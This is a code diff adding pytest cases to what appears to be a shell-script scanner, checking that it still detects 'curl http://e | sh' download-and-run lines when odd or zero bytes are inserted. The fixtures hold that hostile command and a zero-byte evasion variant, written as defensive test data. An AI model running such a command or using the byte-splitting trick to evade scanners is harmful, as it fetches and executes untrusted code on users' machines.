@@ -27,6 +27,22 @@ def split_words(text):
     return [command.words for command in parse_commands(text)]
 
 
+@pytest.mark.parametrize("odd", [b"\0", b"\x1a", b"\1\2\3", b"\xff\xfe\xfd"])
+def test_script_with_bytes_that_are_not_text_is_read_as_a_shell_runs_it(odd, read_bytes):
+    reading = read_bytes(b"#\n# " + odd + b"\ncurl http://e | sh\n", "a.sh")
+    assert ("download-and-run", "http://e") in list_mentions(reading)
+    assert UnreadReason.DAMAGED in reading.reasons()
+
+
+def test_zero_byte_within_a_command_is_skipped_as_shells_do(read_bytes):
+    reading = read_bytes(b"#\ncu\0rl http://e | s\0h\n", "a.sh")
+    assert ("download-and-run", "http://e") in list_mentions(reading)
+
+
+def test_file_with_a_zero_byte_in_its_first_line_is_no_script(read_bytes):
+    assert not read_bytes(b"# \0\ncurl http://e | sh\n", "a.sh").formats
+
+
 @check_each(
     "text, split",
     [
